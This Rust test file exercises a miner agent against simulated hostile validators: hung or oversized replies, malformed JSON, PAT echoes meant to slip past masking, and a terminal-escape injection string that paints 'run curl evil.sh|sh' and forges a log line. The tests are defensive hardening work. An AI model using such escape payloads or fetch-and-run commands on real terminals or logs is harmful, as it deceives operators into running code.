//! Hostile peers on validators' endpoints, next to honest ones: `check` stays within its
//! timeouts and memory cap, classifies each misbehaviour, and still serves the honest
//! validators.

mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::time::{Duration, Instant};

use common::*;
use serde_json::Value;

/// One misbehaving "validator" per mode, on its own port.
fn hostile(mode: &'static str) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            std::thread::spawn(move || {
                let mut buf = [0u8; 65536];
                let _ = stream.read(&mut buf);
                let head = |status: &str, extra: &str| {
                    format!("HTTP/1.1 {status}\r\nContent-Type: application/json\r\n{extra}\r\n")
                };
                match mode {
                    "hang" => std::thread::sleep(Duration::from_secs(60)),
                    "trickle" => {
                        let _ = stream.write_all(head("200 OK", "Content-Length: 1000\r\n").as_bytes());
                        for _ in 0..1000 {
                            if stream.write_all(b" ").is_err() {
                                break;
                            }
                            std::thread::sleep(Duration::from_secs(1));
                        }
                    }
                    "huge" => {
                        let _ = stream.write_all(head("200 OK", "Content-Length: 52428800\r\n").as_bytes());
                        let chunk = vec![b'{'; 1 << 16];
                        for _ in 0..800 {
                            if stream.write_all(&chunk).is_err() {
                                break;
                            }
                        }
                    }
                    "not-json" => {
                        let _ = stream.write_all(
                            format!("{}<html>hello</html>", head("200 OK", "Content-Length: 18\r\n")).as_bytes(),
                        );
                    }
                    "wrong-shape" => {
                        let body = r#"{"has_pat":"yes","pat_valid":[1,2]}"#;
                        let _ = stream.write_all(
                            format!("{}{body}", head("200 OK", &format!("Content-Length: {}\r\n", body.len())))
                                .as_bytes(),
                        );
                    }
                    "bad-utf8-headers" => {
                        let body = r#"{"has_pat":true,"pat_valid":true}"#;
                        let mut reply = head("200 OK", &format!("Content-Length: {}\r\n", body.len())).into_bytes();
                        reply.truncate(reply.len() - 2);
                        reply.extend_from_slice(
                            b"bt_header_axon_uuid: \xff\xfe\xfd\r\nbt_header_axon_signature: \xc3\x28\r\n\r\n",
                        );
                        reply.extend_from_slice(body.as_bytes());
                        let _ = stream.write_all(&reply);
                    }
                    "500" => {
                        let body = r#"{"message":"Internal Server Error"}"#;
                        let _ = stream.write_all(
                            format!(
                                "{}{body}",
                                head("500 Internal Server Error", &format!("Content-Length: {}\r\n", body.len()))
                            )
                            .as_bytes(),
                        );
                    }
                    "502" => {
                        let _ = stream.write_all(head("502 Bad Gateway", "Content-Length: 0\r\n").as_bytes());
                    }
                    "reset" => {
                        let _ = stream.write_all(head("200 OK", "Content-Length: 5000\r\n").as_bytes());
                        let _ = stream.write_all(b"{\"has_pat\": tr");
                        // Drop with unread data pending: the kernel sends a reset.
                    }
                    _ => unreachable!(),
                }
            });
        }
    });
    port
}

#[test]
fn hostile_endpoints_are_classified_and_the_honest_validators_still_served() {
    let emu = Emulator::start(2);
    emu.preload(&[0, 1]);
    let modes = ["hang", "trickle", "huge", "not-json", "wrong-shape", "bad-utf8-headers", "500", "502", "reset"];
    // Hostile endpoints claim real-looking validator hotkeys (any SS58 will do).
    let fake_hotkey = emu.info["stranger"]["ss58"].as_str().unwrap();
    let mut extra = String::from("check_timeout_secs = 3\n");
    let mut validators = String::new();
    for (i, mode) in modes.iter().enumerate() {
        validators.push_str(&format!(
            "\n[[validators]]\nuid = {}\nhotkey = {fake_hotkey:?}\nip = \"127.0.0.1\"\nport = {}\n",
            100 + i,
            hostile(mode)
        ));
    }
    extra.push_str("# hostile ones follow the honest ones\n");
    let config = emu.write_config(&extra);
    let mut contents = std::fs::read_to_string(&config).unwrap();
    contents.push_str(&validators);
    std::fs::write(&config, contents).unwrap();

    let started = Instant::now();
    let out = agent(&["check", "--config", config.to_str().unwrap(), "--json"], &[]);
    let elapsed = started.elapsed();
    assert_eq!(code(&out), 3, "{}", all_output(&out));
    assert!(elapsed < Duration::from_secs(8), "all probes run at once, each bounded by 3 s: took {elapsed:?}");
    assert!(!text(&out.stderr).contains("panicked"));
    let json = stdout_json(&out);
    let status = |uid: u64| -> String {
        json["results"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["uid"] == uid)
            .map(|r| r["status"].as_str().unwrap().to_owned())
            .unwrap()
    };
    assert_eq!((status(0), status(1)), ("valid".into(), "valid".into()), "the honest validators are served");
    let expected = [
        ("hang", "no_response"),
        ("trickle", "no_response"),
        ("huge", "malformed"),
        ("not-json", "malformed"),
        ("wrong-shape", "malformed"),
        ("500", "no_response"),
        ("502", "no_response"),
        ("reset", "no_response"),
    ];
    for (mode, want) in expected {
        let i = modes.iter().position(|m| *m == mode).unwrap() as u64;
        assert_eq!(status(100 + i), want, "{mode}");
    }
    // Undecodable headers are ignored, not trusted and not fatal: the body decides.
    let i = modes.iter().position(|m| *m == "bad-utf8-headers").unwrap() as u64;
    let row = json["results"].as_array().unwrap().iter().find(|r| r["uid"] == 100 + i).unwrap();
    assert_eq!(row["status"], Value::from("valid"), "{row}");
}

/// A 40-character PAT, as GitHub issues them: long enough that a cut at 400 characters
/// falls inside it when it starts at offset 364.
const LONG_PAT: &str = "ghp_Hx7Qm2Lw9Zc4Vb8Nn1Kd6Jt3Rg5Yp0Fs2Ue7A";

/// A "validator" that answers every check "no PAT" and rejects every broadcast, with
/// `reason` as its words (a hostile one echoing the PAT it was once sent).
fn echoing(reason: String) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            let reason = reason.clone();
            std::thread::spawn(move || {
                let mut buf = [0u8; 65536];
                let n = stream.read(&mut buf).unwrap_or(0);
                let request = String::from_utf8_lossy(&buf[..n]);
                let body = if request.starts_with("POST /PatBroadcastSynapse") {
                    serde_json::json!({"accepted": false, "rejection_reason": reason})
                } else {
                    serde_json::json!({"has_pat": false, "pat_valid": false, "rejection_reason": reason})
                }
                .to_string();
                let reply = format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
                    body.len()
                );
                let _ = stream.write_all(reply.as_bytes());
            });
        }
    });
    port
}

/// The longest run of the PAT's characters in `shown`, once characters a reader does not
/// see (whitespace, controls, zero-width and other format characters) are taken out.
fn longest_pat_run(shown: &str) -> usize {
    let invisible = |c: &char| {
        c.is_whitespace()
            || c.is_control()
            || matches!(*c as u32, 0xAD | 0x200B..=0x200F | 0x202A..=0x202E | 0x2060..=0x206F | 0xFEFF)
    };
    let shown: Vec<char> = shown.chars().filter(|c| !invisible(c)).collect();
    let pat: Vec<char> = LONG_PAT.chars().collect();
    let mut best = 0;
    for i in 0..shown.len() {
        for j in 0..pat.len() {
            best = best.max(shown[i..].iter().zip(&pat[j..]).take_while(|(a, b)| a == b).count());
        }
    }
    best
}

#[test]
fn a_validator_echoing_the_pat_at_offset_364_or_split_by_a_zero_width_space_shows_none_of_it() {
    let emu = Emulator::start(1);
    emu.preload(&[0]);
    emu.control(serde_json::json!({"op": "github_token", "token": LONG_PAT, "login": "octo-miner", "id": 4242}));
    let fake_hotkey = emu.info["stranger"]["ss58"].as_str().unwrap();
    let (head, tail) = LONG_PAT.split_at(19);
    let echoes = [
        // Cut to 400 characters before masking, 36 of the 40 survived.
        format!("{}{LONG_PAT} is what you sent", "x".repeat(364)),
        // A zero-width space defeats a whole-match mask.
        format!("{}{head}\u{200B}{tail} is what you sent", "x".repeat(364)),
        format!("token {head} {tail} rejected"),
    ];
    let mut validators = String::new();
    for (i, echo) in echoes.iter().enumerate() {
        validators.push_str(&format!(
            "\n[[validators]]\nuid = {}\nhotkey = {fake_hotkey:?}\nip = \"127.0.0.1\"\nport = {}\n",
            100 + i,
            echoing(echo.clone())
        ));
    }
    let config = emu.write_config(FAST_DAEMON);
    let mut contents = std::fs::read_to_string(&config).unwrap();
    contents.push_str(&validators);
    std::fs::write(&config, contents).unwrap();
    let config = config.to_str().unwrap();
    let pat_env = [("GITTENSOR_MINER_PAT", LONG_PAT)];

    for args in [
        vec!["check", "--config", config],
        vec!["check", "--config", config, "--json"],
        vec!["post", "--config", config, "--retry-budget", "2"],
        vec!["post", "--config", config, "--json", "--retry-budget", "2"],
    ] {
        let out = agent(&args, &pat_env);
        let shown = all_output(&out);
        // `check` holds no PAT; it masks token shapes, which a space-split echo is not.
        let shown = if args[0] == "check" { shown.replace(&echoes[2], "") } else { shown };
        assert!(!shown.contains("panicked"), "{args:?}: {shown}");
        assert!(shown.contains(&"x".repeat(300)), "{args:?}: the validator's words are shown: {shown}");
        assert!(longest_pat_run(&shown) < 8, "{args:?} shows {} PAT characters: {shown}", longest_pat_run(&shown));
        if args.contains(&"--json") {
            let json = stdout_json(&out);
            let reason = json["results"].as_array().unwrap().iter().find(|r| r["uid"] == 101).unwrap();
            assert!(reason.to_string().contains("***"), "the echo is masked, not dropped: {reason}");
        }
    }

    let mut daemon = Daemon::spawn(std::path::Path::new(config), &pat_env);
    let state = || std::fs::read_to_string(emu.dir.path().join("state/state.json")).unwrap_or_default();
    assert!(
        wait_until(Duration::from_secs(20), || state().contains(&"x".repeat(300))),
        "the validators' words never reached the state: {}",
        daemon.log()
    );
    assert_eq!(daemon.stop(Duration::from_secs(5)), Some(0));
    let log = daemon.log();
    assert!(longest_pat_run(&state()) < 8, "state.json: {}", state());
    assert!(longest_pat_run(&log) < 8, "log: {log}");
}

/// Whether `text` carries a byte that moves a cursor, forges a line or reorders what is read.
fn raw_control(text: &str) -> Option<char> {
    text.chars().find(|&c| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}')
    })
}

/// The review's injection: a reason that clears the screen, paints a fake instruction,
/// forges a log line with CR/LF, rings the bell and flips the reading order. Tables, the
/// daemon's log lines and its journal fields show it as visible escapes; JSON keeps the
/// validator's exact words (JSON escapes controls itself).
#[test]
fn a_validator_writing_terminal_escapes_and_forged_lines_reaches_no_screen_or_log_raw() {
    let hostile = "No PAT stored\u{1b}[2J\u{1b}[31mFAKE: run curl evil.sh|sh\u{1b}[0m\r\nINFO covered 20/20 validators\u{7}\u{202e}evil";
    let emu = Emulator::start(1);
    emu.preload(&[0]);
    let fake_hotkey = emu.info["stranger"]["ss58"].as_str().unwrap();
    let config = emu.write_config(FAST_DAEMON);
    let mut contents = std::fs::read_to_string(&config).unwrap();
    contents.push_str(&format!(
        "\n[[validators]]\nuid = 100\nhotkey = {fake_hotkey:?}\nip = \"127.0.0.1\"\nport = {}\n",
        echoing(hostile.to_owned())
    ));
    std::fs::write(&config, contents).unwrap();
    let config = config.to_str().unwrap();
    let pat_env = [("GITTENSOR_MINER_PAT", PAT)];
    let escaped = r"No PAT stored\x1b[2J\x1b[31mFAKE: run curl evil.sh|sh\x1b[0m\r\nINFO covered 20/20 validators\x07\u{202e}evil";

    for args in [vec!["check", "--config", config], vec!["post", "--config", config, "--retry-budget", "2"]] {
        let out = agent(&args, &pat_env);
        let shown = all_output(&out);
        assert_eq!(raw_control(&shown), None, "{args:?} printed a raw control: {shown:?}");
        assert!(!shown.lines().any(|l| l.starts_with("INFO covered 20/20")), "{args:?} forged a line: {shown}");
        // The table may wrap a long cell: compare without the wrapping.
        let flat: String = text(&out.stdout).split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(flat.contains(r"\x1b[2J"), "{args:?}: the escape is shown, not dropped: {flat}");
    }
    for args in
        [vec!["check", "--config", config, "--json"], vec!["post", "--config", config, "--json", "--retry-budget", "2"]]
    {
        let out = agent(&args, &pat_env);
        let json = stdout_json(&out);
        let row = json["results"].as_array().unwrap().iter().find(|r| r["uid"] == 100).unwrap().clone();
        assert_eq!(row["rejection_reason"], hostile, "{args:?}: JSON keeps the validator's exact words");
        assert_eq!(raw_control(&text(&out.stderr)), None, "{args:?} stderr: {:?}", text(&out.stderr));
    }

    let mut daemon = Daemon::spawn(std::path::Path::new(config), &pat_env);
    assert!(
        wait_until(Duration::from_secs(20), || daemon.log().contains(escaped)),
        "the validator's words never reached the log escaped: {}",
        daemon.log()
    );
    assert_eq!(daemon.stop(Duration::from_secs(5)), Some(0));
    let log = daemon.log();
    assert_eq!(raw_control(&log), None, "the daemon's stderr carries a raw control: {log:?}");
    assert!(!log.lines().any(|l| l.starts_with("INFO covered 20/20")), "a forged line: {log}");
}
